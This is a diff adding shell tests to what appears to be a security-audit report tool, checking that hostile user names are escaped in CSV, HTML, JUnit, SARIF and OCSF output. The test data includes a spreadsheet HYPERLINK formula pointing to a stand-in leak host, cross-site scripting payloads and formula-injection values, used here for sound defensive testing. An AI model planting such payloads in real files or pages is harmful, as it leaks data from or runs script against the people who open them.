@@ -216,6 +216,39 @@ cp "$hn" "$T/=1+1.csv"
 (cd "$T" && "$BIN" --format csv "=1+1.csv" >"$T/f.csv" 2>/dev/null)
 check "hostile csv: file name cell neutralised" grep -q "^'=1+1.csv," "$T/f.csv"
 
+# ---- hostile user names with findings (test/data/hostile-users.csv):
+# formulas, markup, quotes, backslashes, controls, invalid UTF-8, bidi ----
+HU=test/data/hostile-users.csv
+for f in $FORMATS; do
+	"$BIN" --format "$f" "$HU" >"$T/hu.$f" 2>"$T/err"
+	check "hostile users $f: exit 1" test $? = 1
+	check "hostile users $f: valid $f" valid "$f" "$T/hu.$f"
+done
+for f in junit html; do
+	check "hostile users $f: no markup injected" sh -c "! grep -Eq '<(script|img)|]]>|onerror=alert\(1\)>' '$T/hu.$f'"
+	check "hostile users $f: ASCII only, no control byte" sh -c "! LC_ALL=C tr -d '\\n' <'$T/hu.$f' | LC_ALL=C grep -q '[^ -~]'"
+	check "hostile users $f: names shown as text" grep -qF '&lt;script&gt;alert(document.domain)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;' "$T/hu.$f"
+done
+check "hostile users junit: 10 user findings in one failure" test "$(xmllint --xpath 'string(//testcase[@name="user-console-without-mfa"]/failure/@message)' "$T/hu.junit" | cut -d' ' -f1)" = 10
+check "hostile users sarif: names kept exactly as data" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "user-console-without-mfa") | .properties.user][0:2] | join("|")' "$T/hu.sarif")" = '=HYPERLINK("http://evil.example/?leak","click me")|<script>alert(document.domain)</script><img src=x onerror=alert(1)>'
+check "hostile users sarif: invalid UTF-8 as U+FFFD" test "$(jq -r '[.runs[0].results[] | .properties.user | select(startswith("bad"))][0]' "$T/hu.sarif")" = "bad$(printf '\357\277\275\357\277\275')utf8$(printf '\357\277\275\357\277\275')"
+check "hostile users ocsf: one line per finding, names as data" test "$(jq -s -r '[.[] | .resources[0].name | select(. == "-2+3" or . == "@SUM(A1:A9)")] | length' "$T/hu.ocsf")" = 2
+"$PY" - "$T/hu.csv" <<'PYEOF' >"$T/hucells" 2>&1
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
+users = [r[4] for r in rows[1:] if r[2] == "user-console-without-mfa"]
+print(len(users))
+print(users[0])
+print(all(u[0] not in "=+-@\t\r" for u in users))
+print([u for u in users if u.startswith("'-") or u.startswith("'@")])
+PYEOF
+check "hostile users csv: formulas neutralised, quotes intact ($(tr '\n' ' ' <"$T/hucells"))" test "$(cat "$T/hucells")" = "$(printf '%s\n' 10 "'=HYPERLINK(\"http://evil.example/?leak\",\"click me\")" True "[\"'-2+3\", \"'@SUM(A1:A9)\"]")"
+for f in text json $FORMATS; do
+	"$BIN" --redact --format "$f" "$HU" >"$T/hur.$f" 2>&1
+	check "hostile users redact $f: no name left" sh -c "! grep -Eq 'HYPERLINK|<script|&lt;script|alert\(|quoted|pwned|SUM\(|fdp|TAB|CDATA|utf8' '$T/hur.$f'"
+	check "hostile users redact $f: pseudonyms" grep -q 'user-0010' "$T/hur.$f"
+done
+
 # ---- --redact: no user name or user ARN in any format ----
 users=$(tail -n +2 fixtures/demo.csv | cut -d, -f1 | grep -v '^<root_account>$')
 for f in text json $FORMATS; do
